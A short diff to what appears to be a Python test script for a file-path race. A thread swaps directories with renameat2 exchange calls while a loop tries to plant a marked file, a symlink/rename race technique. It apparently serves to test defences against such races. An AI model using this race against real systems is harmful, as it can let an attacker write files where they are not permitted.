@@ -139,7 +139,8 @@ def swap():
         for name in ('real', 'link'):
             try: os.rename(name, 'd.new'); os.rename('d.new', name)
             except OSError: pass
-            libc.syscall(316, -100, b'd', -100, name.encode(), 2)
+            try: call(316, -100, b'd', -100, name.encode(), 2)
+            except OSError: pass
 thread = threading.Thread(target=swap); thread.start()
 for _ in range(3000):
     try: os.close(os.open('d/planted-@MARK@', os.O_CREAT | os.O_WRONLY, 0o600))
